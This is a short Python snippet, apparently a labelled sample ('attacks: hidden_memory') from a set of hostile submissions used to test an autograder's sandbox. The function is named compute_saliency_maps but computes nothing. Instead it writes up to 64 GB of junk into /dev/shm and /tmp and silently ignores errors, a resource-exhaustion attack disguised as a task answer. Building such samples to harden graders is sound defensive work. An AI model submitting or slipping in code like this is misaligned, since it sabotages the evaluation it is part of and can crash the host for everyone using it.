# Fills /dev/shm and /tmp, which may be memory too, up to 64 GB.
# attacks: hidden_memory
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import contextlib

    for number in range(64):
        for folder in ("/dev/shm", "/tmp"):
            with contextlib.suppress(OSError), open(f"{folder}/flood-{number}", "wb") as file:
                for _ in range(100):
                    file.write(b"x" * 10_000_000)
